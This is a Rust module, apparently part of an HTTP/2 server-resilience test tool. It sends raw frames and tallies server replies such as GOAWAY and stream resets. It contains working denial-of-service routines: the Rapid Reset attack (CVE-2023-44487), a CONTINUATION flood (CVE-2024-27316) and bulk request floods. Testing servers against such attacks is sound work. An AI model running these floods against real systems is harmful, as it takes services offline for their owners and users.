//! A client of HTTP/2 without manners: frames out as they are given, frames in counted.

use std::sync::{Arc, Mutex, PoisonError};
use std::time::Duration;

use tokio::io::{AsyncRead, AsyncReadExt, AsyncWriteExt, BufReader, ReadHalf, WriteHalf, split};
use tokio::task::JoinHandle;

use super::frames::{self, kind};
use crate::tls::Connection;

/// What the server has said so far.
#[derive(Debug, Clone, Default)]
pub struct Seen {
    /// Its goodbye: error code and debug data.
    pub goaway: Option<(u32, String)>,
    /// Header frames: answers, or their trailers.
    pub headers: usize,
    /// Streams it reset.
    pub resets: usize,
    /// Pings and settings it acknowledged.
    pub acks: usize,
    /// Whether the connection has ended.
    pub ended: bool,
}

/// A connection that is up.
#[derive(Debug)]
pub struct Peer {
    out: WriteHalf<Connection>,
    seen: Arc<Mutex<Seen>>,
    reader: Option<JoinHandle<()>>,
    unread: Option<ReadHalf<Connection>>,
    next: u32,
    /// Bytes written.
    pub written: u64,
}

impl Drop for Peer {
    fn drop(&mut self) {
        if let Some(reader) = &self.reader {
            reader.abort();
        }
    }
}

impl Peer {
    /// Says the preface and no more than it must.
    pub async fn start(connection: Connection) -> Self {
        let mut peer = Self::deaf(connection).await;
        if let Some(read) = peer.unread.take() {
            peer.reader = Some(tokio::spawn(listen(read, Arc::clone(&peer.seen))));
        }
        peer
    }

    /// Like [`Peer::start`], and never reads.
    pub async fn deaf(connection: Connection) -> Self {
        let (read, out) = split(connection);
        let seen = Arc::default();
        let mut peer = Self { out, seen, reader: None, unread: Some(read), next: 1, written: 0 };
        let hello = [
            frames::PREFACE.to_vec(),
            frames::frame(kind::SETTINGS, 0, 0, &[]),
            frames::frame(kind::SETTINGS, frames::ACK, 0, &[]),
        ];
        peer.send(&hello.concat()).await;
        peer
    }

    /// The number of the next stream.
    pub fn stream(&mut self) -> u32 {
        let stream = self.next;
        self.next += 2;
        stream
    }

    /// Sends, if the connection still takes it.
    pub async fn send(&mut self, octets: &[u8]) -> bool {
        let sent = async {
            self.out.write_all(octets).await?;
            self.out.flush().await
        };
        let sent = matches!(tokio::time::timeout(Duration::from_secs(5), sent).await, Ok(Ok(())));
        if sent {
            self.written += octets.len() as u64;
        }
        sent && !self.seen().ended
    }

    /// What came back so far.
    #[must_use]
    pub fn seen(&self) -> Seen {
        self.seen.lock().unwrap_or_else(PoisonError::into_inner).clone()
    }

    /// What came back until the connection ended, or until patience did.
    pub async fn outcome(&mut self, patience: Duration) -> Seen {
        if let Some(reader) = &mut self.reader {
            let _ = tokio::time::timeout(patience, reader).await;
        }
        self.seen()
    }

    /// Sends the same `count` times, `batch` of them at once with a pause between; says how many went out.
    pub async fn repeat(&mut self, octets: &[u8], count: usize, batch: usize, pause: Duration) -> usize {
        let whole = octets.repeat(batch);
        let mut sent = 0;
        while sent < count && self.send(&whole).await {
            sent += batch;
            tokio::time::sleep(pause).await;
        }
        sent
    }

    /// Begins calls and resets each at once (CVE-2023-44487), or only in the next batch, when the server has begun to
    /// work for it.
    pub async fn rapid_reset(
        &mut self,
        path: &str,
        count: usize,
        batch: usize,
        late: Option<Duration>,
    ) -> usize {
        let block = frames::request(path);
        let mut sent = 0;
        while sent < count {
            let streams: Vec<u32> = (0..batch).map(|_| self.stream()).collect();
            let open = |stream: &u32| frames::frame(kind::HEADERS, frames::END_HEADERS, *stream, &block);
            let pair = |stream: &u32| [open(stream), frames::reset(*stream)].concat();
            let alive = match late {
                None => self.send(&streams.iter().flat_map(pair).collect::<Vec<u8>>()).await,
                Some(later) => {
                    self.send(&streams.iter().flat_map(open).collect::<Vec<u8>>()).await;
                    tokio::time::sleep(later).await;
                    self.send(&streams.iter().flat_map(|s| frames::reset(*s)).collect::<Vec<u8>>()).await
                }
            };
            if !alive {
                break;
            }
            sent += batch;
        }
        sent
    }

    /// Makes calls and does not wait for their answers; says how many went out.
    pub async fn calls(
        &mut self,
        path: &str,
        message: &[u8],
        count: usize,
        batch: usize,
        pause: Duration,
    ) -> usize {
        let mut sent = 0;
        while sent < count {
            let mut octets = Vec::new();
            for _ in 0..batch {
                let stream = self.stream();
                octets.extend(frames::call(stream, path, message));
            }
            if !self.send(&octets).await {
                break;
            }
            sent += batch;
            tokio::time::sleep(pause).await;
        }
        sent
    }

    /// A header block that goes on and on (CVE-2024-27316); says how many frames went out.
    pub async fn continuation_flood(&mut self, fragment: &[u8], count: usize) -> usize {
        let stream = self.stream();
        if !self.send(&frames::frame(kind::HEADERS, 0, stream, &frames::request("/a/b"))).await {
            return 0;
        }
        let more = frames::frame(kind::CONTINUATION, 0, stream, fragment);
        let mut sent = 0;
        while sent < count && self.send(&more).await {
            sent += 1;
        }
        sent
    }
}

async fn listen(read: impl AsyncRead + Unpin, seen: Arc<Mutex<Seen>>) {
    let mut read = BufReader::new(read);
    let mut payload = Vec::new();
    while let Ok(head) = head(&mut read).await {
        payload.clear();
        let more = (&mut read).take(u64::from(head.length)).read_to_end(&mut payload).await;
        if more.is_err() {
            break;
        }
        note(&mut seen.lock().unwrap_or_else(PoisonError::into_inner), &head, &payload);
    }
    seen.lock().unwrap_or_else(PoisonError::into_inner).ended = true;
}

struct Head {
    length: u32,
    kind: u8,
    flags: u8,
}

async fn head(read: &mut (impl AsyncRead + Unpin)) -> std::io::Result<Head> {
    let first = read.read_u32().await?;
    let flags = read.read_u8().await?;
    read.read_u32().await?;
    Ok(Head { length: first >> 8, kind: first.to_be_bytes()[3], flags })
}

fn note(seen: &mut Seen, head: &Head, payload: &[u8]) {
    match head.kind {
        kind::HEADERS => seen.headers += 1,
        kind::RST_STREAM => seen.resets += 1,
        kind::SETTINGS | kind::PING if head.flags & frames::ACK != 0 => seen.acks += 1,
        kind::GOAWAY => {
            let code = payload.get(4..8).and_then(|octets| octets.try_into().ok());
            let debug = String::from_utf8_lossy(payload.get(8..).unwrap_or_default()).into_owned();
            seen.goaway = Some((code.map_or(u32::MAX, u32::from_be_bytes), debug));
        }
        _ => {}
    }
}
